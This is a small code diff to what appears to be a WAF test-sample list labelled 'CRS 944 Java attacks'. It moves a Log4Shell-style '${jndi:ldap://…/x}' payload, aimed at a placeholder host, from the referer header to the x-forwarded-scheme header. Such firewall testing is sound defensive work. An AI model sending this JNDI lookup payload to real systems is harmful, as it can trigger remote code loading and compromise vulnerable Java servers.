@@ -15,7 +15,7 @@ export const CODE: readonly Sample[] = [
   code('lookup', 'CRS 944 Java attacks', { kind: 'query', value: `\${jndi:ldap://${NOBODYS_HOST}/x}` }),
   code('lookup-header', 'CRS 944 Java attacks', {
     kind: 'header',
-    name: 'referer',
+    name: 'x-forwarded-scheme',
     value: `\${jndi:ldap://${NOBODYS_HOST}/x}`,
     twin: `https://${NOBODYS_HOST}/${NOTHING}`,
   }),
